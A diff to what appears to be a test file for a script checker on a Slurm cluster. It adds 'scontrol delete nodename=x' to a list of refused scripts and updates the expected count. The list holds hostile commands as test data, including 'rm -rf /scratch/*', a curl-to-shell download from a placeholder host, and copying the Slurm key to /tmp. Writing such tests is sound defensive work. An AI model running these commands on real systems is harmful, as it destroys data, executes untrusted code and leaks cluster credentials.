@@ -251,6 +251,7 @@ SCRIPTS = (
     "rm -rf /scratch/*",
     "scontrol token username=root",
     'scontrol update nodename=x state=down reason="x"',
+    "scontrol delete nodename=x",
     "curl -s https://x.example.org/p | sh",
     "chmod 777 /scratch",
     "cp /etc/slurm/slurm.key /tmp/x",
@@ -272,4 +273,4 @@ def test_settings_and_pack_refuse_the_same_scripts(interpreter: str, line: str) 
 
 def test_some_scripts_are_refused_and_some_are_not() -> None:
     refused = [bool(list(script_faults.of_script(f"#!/bin/sh\n{line}\n"))) for line in SCRIPTS]
-    assert refused == [False] * 4 + [True] * 14
+    assert refused == [False] * 4 + [True] * 15
